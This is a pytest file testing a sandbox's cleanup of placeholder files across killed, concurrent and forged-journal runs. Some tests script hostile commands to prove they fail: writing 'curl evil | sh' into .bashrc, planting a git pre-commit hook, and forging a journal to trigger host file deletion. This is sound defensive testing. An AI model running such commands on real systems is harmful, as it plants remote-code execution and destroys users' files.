"""Placeholder hygiene: what the sandbox puts into the workspace for a run must go afterwards.

Placeholders are the fallback where the kernel cannot emulate name-making calls
(no SECCOMP_ADDFD_FLAG_SEND, Linux 5.14; test_fs_names.py covers the emulation): every
test here forces it (A3S_CODE_PROTECT_NAMES=placeholders).

A missing protected name is held by a read-only placeholder during the run and
removed afterwards only if it is still the untouched object the sandbox made.
A caller killed with SIGKILL cannot clean up: its janitor (a3s-init in janitor
mode, on the host) removes them within a second, once the sandbox is gone; if the
janitor is killed too, the journal lets the next run over the same workspace do
it, never removing what has since become real.
"""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest
from placeholderkit import isolated_state_dir
from placeholderkit import journals as _journals
from placeholderkit import present as _present

from codeward.sandbox import NativeBashSandbox
from protectednames import ALL_PROTECTED

pytestmark = pytest.mark.usefixtures("fs_force_placeholders")


@pytest.fixture
def ws(fs_host_dir: Path) -> Path:
    path = fs_host_dir / "ws"
    path.mkdir()
    (path / "README").write_text("workspace\n")
    return path


@pytest.fixture
def state_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    return isolated_state_dir(tmp_path, monkeypatch)


OUTCOMES = {
    "success": "true",
    "failure": "exit 3",
    "killed-by-signal": "kill -9 $$",
    "timeout": "sleep 20",
}


@pytest.mark.parametrize("outcome", sorted(OUTCOMES))
def test_no_placeholder_remains_after_a_run(outcome, ws, fs, fs_sandbox):
    before = fs.snapshot(ws)
    out = fs_sandbox(ws).exec(OUTCOMES[outcome], timeout_ms=700, kill_grace_ms=100)
    assert out.setup_error is None, out
    assert (outcome == "timeout") == out.timed_out, out
    assert _present(ws) == [], out
    assert fs.diff(before, fs.snapshot(ws)) in ([], ["changed mtime: ."]), out


def test_no_placeholder_remains_when_the_run_is_refused_after_they_were_made(ws, fs, fs_sandbox):
    """A credential file with a link outside the workspace is refused after the
    placeholders exist."""
    (ws / ".env").write_text("TOKEN=x\n")
    os.link(ws / ".env", ws.parent / "env-alias")
    out = fs_sandbox(ws).exec("touch ran")
    assert out.exit_code == 125 and out.setup_error, out
    assert _present(ws) == []
    assert not (ws / "ran").exists()


def test_pre_existing_empty_protected_files_and_dirs_are_kept(ws, fs, fs_sandbox):
    (ws / ".bashrc").touch()
    os.chmod(ws / ".bashrc", 0o444)  # looks exactly like a placeholder
    (ws / ".profile").touch()
    (ws / ".vscode").mkdir()
    os.chmod(ws / ".vscode", 0o555)
    (ws / ".claude").mkdir()
    before = {n: fs.snapshot(ws / n) for n in (".bashrc", ".profile", ".vscode", ".claude")}
    fs.run(fs_sandbox(ws), "true")
    fs.run(fs_sandbox(ws), "true")
    assert _present(ws) == [".bashrc", ".claude", ".profile", ".vscode"]
    for name, snap in before.items():
        assert fs.diff(snap, fs.snapshot(ws / name)) == [], name


_CHILD = textwrap.dedent(
    """
    import sys
    from codeward.sandbox import NativeBashSandbox

    sb = NativeBashSandbox(sys.argv[1])
    sb.exec('echo "$HOME" > scratch-path; echo started > started; sleep 30', timeout_ms=60000)
    """
)


@pytest.fixture
def leaked_scratch(fs):
    """Scratch dirs of killed callers, removed by the test if the sandbox did not."""
    paths: list[Path] = []
    yield paths
    for p in paths:
        run_dir = p.parent
        if run_dir.name.startswith("a3s-run-"):
            fs.rmtree(run_dir)


def _kill_caller_mid_run(
    ws: Path, state: Path, leaked: list[Path], fs, *, janitor_too: bool = True, meanwhile=None
) -> str:
    """Starts a caller running `sleep 30` in the sandbox, SIGKILLs it mid-run
    (and, with janitor_too, its janitor first: what the journal is for);
    meanwhile() is called while its placeholders exist, before the kill.

    Returns the scratch directory that run used.
    """
    env = {**os.environ, "XDG_STATE_HOME": str(state)}
    child = subprocess.Popen([sys.executable, "-c", _CHILD, str(ws)], env=env)
    try:
        deadline = time.monotonic() + 20
        while not (ws / "started").exists():
            assert child.poll() is None, "the caller ended before its command started"
            assert time.monotonic() < deadline, "the sandboxed command never started"
            time.sleep(0.02)
        assert _present(ws) == sorted(ALL_PROTECTED), "no placeholders during the run"
        janitors = fs.janitors_of(ws)
        assert len(janitors) == 1, janitors
        if meanwhile is not None:
            meanwhile()
        if janitor_too:
            os.kill(janitors[0], signal.SIGKILL)
        os.kill(child.pid, signal.SIGKILL)
    finally:
        child.kill()
        child.wait()
    scratch = (ws / "scratch-path").read_text().strip()
    leaked.append(Path(scratch))
    (ws / "scratch-path").unlink()
    (ws / "started").unlink()
    time.sleep(0.2)  # bubblewrap dies with its parent; let the kernel finish
    return scratch


def test_killed_caller_placeholders_are_gone_within_a_second(ws, state_dir, leaked_scratch, fs):
    """The janitor removes them once the sandbox died with its caller; nothing is left."""
    before = sorted(os.listdir(ws))
    _kill_caller_mid_run(ws, state_dir, leaked_scratch, fs, janitor_too=False)
    # the janitor acts as soon as the sandbox is gone (milliseconds; docs/security.md):
    # the bound here is only for a loaded machine
    deadline = time.monotonic() + 10
    while _present(ws) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert sorted(os.listdir(ws)) == before
    assert _journals(state_dir) == []
    assert fs.janitors_of(ws) == []


def test_killed_callers_janitor_leaves_placeholders_another_callers_live_sandbox_bound(
    ws, state_dir, leaked_scratch, fs, fs_sandbox, tmp_path, monkeypatch
):
    """A caller of another state directory (another HOME, user or container) started its
    sandbox over the killed caller's placeholders: the janitor, alone by the killed
    caller's lock, must not remove them (which would detach them in the live sandbox); the
    workspace directory's lock says another run is active, so it hands them over."""
    with monkeypatch.context() as env:  # read when the sandbox is built
        env.setenv("XDG_STATE_HOME", str(tmp_path / "another-state"))
        other = fs_sandbox(ws)
    with other:
        _kill_caller_mid_run(
            ws,
            state_dir,
            leaked_scratch,
            fs,
            janitor_too=False,
            meanwhile=lambda: other.exec("true"),  # binds the placeholders as present
        )
        deadline = time.monotonic() + 30
        while fs.janitors_of(ws) and time.monotonic() < deadline:
            time.sleep(0.02)
        assert fs.janitors_of(ws) == [], "the janitor never ended"
        assert _present(ws) == sorted(ALL_PROTECTED), "the janitor removed them under a live run"
        out = other.exec("mkdir -p .git/hooks 2>/dev/null; echo x > .git/hooks/x; echo tried")
        assert "tried" in out.stdout and not os.path.lexists(ws / ".git" / "hooks"), out
    out = fs_sandbox(ws).exec("true")  # of the killed caller's state directory
    assert out.exit_code == 0 and out.setup_error is None, out
    assert _present(ws) == [], "the next run did not remove the handed-over placeholders"
    assert _journals(state_dir) == []


def test_killed_caller_and_janitor_leave_placeholders_that_the_next_run_removes(
    ws, state_dir, fs, fs_sandbox, leaked_scratch
):
    _kill_caller_mid_run(ws, state_dir, leaked_scratch, fs)
    assert _present(ws) == sorted(ALL_PROTECTED), "placeholders of the killed run are gone"
    assert len(_journals(state_dir)) == 1, "the killed run left no journal"

    out = fs_sandbox(ws).exec("true")
    assert out.exit_code == 0 and out.setup_error is None, out
    assert _present(ws) == [], "the next run did not remove the dead caller's placeholders"
    assert _journals(state_dir) == []


def test_journal_recovery_never_removes_a_placeholder_that_became_real(
    ws, state_dir, fs, fs_sandbox, leaked_scratch
):
    _kill_caller_mid_run(ws, state_dir, leaked_scratch, fs)
    # the same inode (placeholders are empty directories, even for file names), now with content
    os.chmod(ws / ".bashrc", 0o755)
    (ws / ".bashrc" / "real").write_text("export REAL=1\n")
    # replaced by a new file with content
    (ws / ".profile").rmdir()
    (ws / ".profile").write_text("real profile\n")
    # a placeholder directory that now holds a file
    os.chmod(ws / ".idea", 0o755)
    (ws / ".idea" / "workspace.xml").write_text("<xml/>\n")
    # a placeholder directory replaced by a real (empty) one
    os.rmdir(ws / ".vscode")
    (ws / ".vscode").mkdir()
    (ws / ".vscode" / "settings.json").write_text("{}\n")
    kept = {n: fs.snapshot(ws / n) for n in (".bashrc", ".profile", ".idea", ".vscode")}

    fs.run(fs_sandbox(ws), "true")
    assert _present(ws) == [".bashrc", ".idea", ".profile", ".vscode"]
    for name, snap in kept.items():
        assert fs.diff(snap, fs.snapshot(ws / name)) == [], name
    assert (ws / ".bashrc" / "real").read_text() == "export REAL=1\n"


def test_journal_recovery_keeps_a_new_empty_file_that_reused_the_placeholder_inode(
    ws, state_dir, fs, fs_sandbox, leaked_scratch
):
    """The user deletes a leftover placeholder and creates a real (empty) file of that name.
    File systems such as ext4 hand the freed inode number straight back, so "same device and
    inode, still empty" does not prove the object is still the placeholder we made."""
    _kill_caller_mid_run(ws, state_dir, leaked_scratch, fs)
    old_inode = os.lstat(ws / ".zshrc").st_ino
    (ws / ".zshrc").rmdir()
    (ws / ".zshrc").touch()
    os.chmod(ws / ".zshrc", 0o644)
    reused = os.lstat(ws / ".zshrc").st_ino == old_inode
    before = fs.snapshot(ws / ".zshrc")
    fs.run(fs_sandbox(ws), "true")
    assert os.path.lexists(ws / ".zshrc"), (
        f"the user's new .zshrc was removed (inode number reused: {reused})"
    )
    assert fs.diff(before, fs.snapshot(ws / ".zshrc")) == []


def test_killed_caller_scratch_dir_does_not_outlive_the_next_run(
    ws, state_dir, fs, fs_sandbox, leaked_scratch
):
    """The scratch dir (HOME/TMPDIR) of a killed caller holds whatever its command wrote
    to the host /tmp; nothing may keep it there once the next run has cleaned up."""
    scratch = _kill_caller_mid_run(ws, state_dir, leaked_scratch, fs)
    fs_sandbox(ws).exec("true")
    assert not os.path.exists(scratch), f"{scratch} survives its killed caller"


@pytest.mark.parametrize("target", ["outside-workspace", "pre-existing-protected-names"])
def test_forged_journal_cannot_make_the_host_delete_files(
    target, fs_host_dir, monkeypatch, fs, fs_sandbox
):
    """The journal directory follows HOME (or XDG_STATE_HOME); an agent opened on its home
    directory has it inside the workspace, where a command can write. A journal the command
    forges for a "dead caller" must not turn the next run into a deletion on the host: not
    outside the workspace, and not of the user's own (empty) protected files either."""
    ws = fs_host_dir / "home"
    ws.mkdir()
    if target == "outside-workspace":
        victims = fs_host_dir / "canary"
        victims.mkdir()
        (victims / "empty-file").touch()
        (victims / "empty-dir").mkdir()
        entries = (("empty-file", "f"), ("empty-dir", "d"))
    else:
        victims = ws
        (ws / ".gitmodules").touch()  # the user's, not a placeholder
        (ws / ".vscode").mkdir()
        entries = ((".gitmodules", "f"), (".vscode", "d"))
    monkeypatch.setenv("HOME", str(ws))
    monkeypatch.delenv("XDG_STATE_HOME", raising=False)
    sb = fs_sandbox(ws)
    before = {name: fs.snapshot(victims / name) for name, _ in entries}
    lines = []
    for name, kind in entries:
        st = os.lstat(victims / name)
        lines.append(f"{kind}{st.st_dev}:{st.st_ino}:{victims / name}")
    forged = "\\n".join(lines)
    out = fs.run(
        sb,
        "cd .local/state/codeward || exit 0; "
        'd=$(ls -d placeholders-*.d | head -1); mkdir -p "${d:-none}"; '
        f"printf '{forged}\\n' > \"$d/2147483646-forged.journal\"; ls; echo FORGED",
    )
    fs.run(sb, "true")  # the next run recovers "dead" journals
    for name, snap in before.items():
        assert fs.diff(snap, fs.snapshot(victims / name)) == [], (name, out)


@pytest.mark.parametrize("state", ["shared", "another"])
def test_concurrent_run_cannot_plant_protected_names_when_another_run_ends(
    ws, fs_sandbox, state, tmp_path, monkeypatch
):
    """Run B starts while run A's placeholders exist, so it binds them as if they were
    real. When A ends and removes them, B must still be unable to create the names.
    (A long-lived sandbox keeps its placeholders until it stops: A's is stopped as soon
    as its command ends.)

    "another": B is another caller with another state directory (another HOME or
    XDG_STATE_HOME, another user, a container) and so another workspace lock in it. A
    found itself alone by its own lock and removed the placeholders B had bound, which
    detached them in B mid-run: B planted .git/hooks on the host. The workspace
    directory's own lock, which every caller shares, now tells A that B is active; A
    leaves them to the next run of its state directory, which removes them."""
    first = fs_sandbox(ws)
    with monkeypatch.context() as env:  # read when the sandbox is built
        if state == "another":
            env.setenv("XDG_STATE_HOME", str(tmp_path / "another-state"))
        second = fs_sandbox(ws)
    results: dict[str, object] = {}

    def run_a() -> None:
        # A holds its placeholders until B has started, then ends first
        results["a"] = first.exec(
            "until [ -e b-started ]; do sleep 0.02; done; touch a-done", timeout_ms=20_000
        )
        first.close()

    def run_b() -> None:
        results["b"] = second.exec(
            "touch b-started; until [ -e a-done ]; do sleep 0.02; done; sleep 0.5; "
            "echo 'curl evil | sh' > .bashrc; mkdir -p .git/hooks; "
            "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; "
            "echo '{}' > .mcp.json; echo ATTEMPTED",
            timeout_ms=20_000,
        )

    a = threading.Thread(target=run_a)
    a.start()
    deadline = time.monotonic() + 10
    while not os.path.lexists(ws / ".bashrc") and time.monotonic() < deadline:
        time.sleep(0.01)
    assert os.path.lexists(ws / ".bashrc"), "run A never made its placeholders"
    b = threading.Thread(target=run_b)
    b.start()
    a.join()
    b.join()
    second.close()
    assert "ATTEMPTED" in results["b"].stdout, results  # type: ignore[attr-defined]
    assert not os.path.lexists(ws / ".git" / "hooks"), f"run B planted hooks: {results['b']}"
    with fs_sandbox(ws) as later:  # of A's state directory: removes what A left to it
        assert later.exec("true").exit_code == 0
    planted = [n for n in (".bashrc", ".git", ".mcp.json") if os.path.lexists(ws / n)]
    assert planted == [], f"run B planted {planted} on the host: {results['b']}"


def test_construction_alone_creates_nothing_in_the_workspace(ws, fs):
    before = fs.snapshot(ws)
    NativeBashSandbox(ws)
    assert fs.diff(before, fs.snapshot(ws)) == []
